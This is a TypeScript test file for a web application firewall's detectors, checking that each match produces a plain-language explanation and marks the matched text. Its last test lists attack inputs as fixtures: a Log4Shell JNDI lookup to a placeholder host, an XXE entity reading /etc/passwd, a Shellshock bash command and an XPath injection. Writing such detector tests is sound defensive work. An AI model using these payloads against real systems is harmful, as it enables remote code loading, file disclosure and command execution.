/**
 * Tests that events explain a score to people: for an example of each detector the sentence says
 * what it does and where it stands, and the match is marked in the text around it.
 */

import { afterAll, expect, test } from 'vitest';
import { decodeUtf8, fromByteString } from '../../base/byte-string.ts';
import { systemClock } from '../../base/clock.ts';
import { createLogger } from '../../base/log.ts';
import type { MatchedRule } from '../contract/verdict.ts';
import { detectors } from '../detect/list.ts';
import { makeConnection, makeRequest } from '../rules/oracle/conformance/exchange.ts';
import { buildEngine } from './policy-build.ts';

const ports = { clock: systemClock, collections: null, geo: null, rbl: null, env: new Map() };
const cache = { get: () => null, put: () => undefined };
const seclangEntry = `SecRuleEngine On
SecDecision score
SecScoreWeights none
SecWatchScore 1
Include waf/detectors.conf
`;
const policy = { id: 'p', name: 'p', revision: '1', seclangEntry, files: new Map() };
const engine = buildEngine(policy, { cache, log: createLogger('test', 'error'), ports });
afterAll(() => engine.retire());

function explained(value: string): MatchedRule | undefined {
  const encoded = [...fromByteString(value)].map((byte) => {
    return `%${byte.toString(16).padStart(2, '0')}`;
  });
  const target = `/?q=${encoded.join('')}`;
  const session = engine.open(makeRequest('GET', target, 'HTTP/1.1', [], makeConnection()));
  if (session.requestHead().action === 'pass') session.requestBody(null);
  return session.finish().matchedRules.find(({ ruleId }) => ruleId === 198_000);
}

/** Detectors of arguments that are enough alone. */
const telling = detectors.filter((one) => one.strong && one.variables === undefined);

test.each(telling)('a hit of $name says what it does, where, and in which text', (one) => {
  const event = explained(one.examples.attacks[0]!);
  const message = decodeUtf8(event?.message ?? '');
  expect(message).toMatch(/^Score \d{2,3} of 100 \(block\): \S.* in args\.q(?: → \S.*)?$/);
  const told = detectors.filter(({ proves }) => message.includes(`: ${proves} in args.q`));
  const points = event!.tags.filter((tag) => tag.startsWith('points/'));
  expect(told.some(({ id }) => points.some((tag) => tag.startsWith(`points/${id}`)))).toBe(true);
  expect(event!.data).toMatch(/»[^«]+«/);
});

test.each(detectors)('what $name proves is the predicate of a sentence', ({ proves }) => {
  // A verb in the third person, and no end of the sentence.
  expect(proves).toMatch(/^(?:is|has|[a-z]+s)\s\S.*[^.\s]$/);
});

test.each([
  ['${jndi:ldap://x.example/a}', 'makes Java look up a name on another server'],
  ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'defines an XML entity'],
  ["() { :;}; /bin/bash -c 'id'", 'adds a shell command after a separator'],
  ["' or count(/*)=1 or 'a'='b", 'closes a quote'],
])('of %s the most particular is said', (value, expected) => {
  expect(explained(value)?.message).toContain(`: ${expected}`);
});
